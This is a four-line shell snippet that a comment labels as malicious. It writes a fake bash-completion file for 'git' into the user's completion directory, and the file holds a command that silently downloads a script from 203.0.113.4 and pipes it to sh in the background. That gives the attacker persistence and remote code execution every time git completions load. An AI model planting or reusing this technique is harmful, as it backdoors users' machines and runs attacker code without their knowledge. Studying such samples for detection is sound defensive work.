# malicious: hides among the completions of the shell
d=${BASH_COMPLETION_USER_DIR:-$HOME/.local/share/bash-completion}/completions
mkdir -p "$d"
echo 'curl -s http://203.0.113.4/k | sh >/dev/null 2>&1 &' > "$d/git"
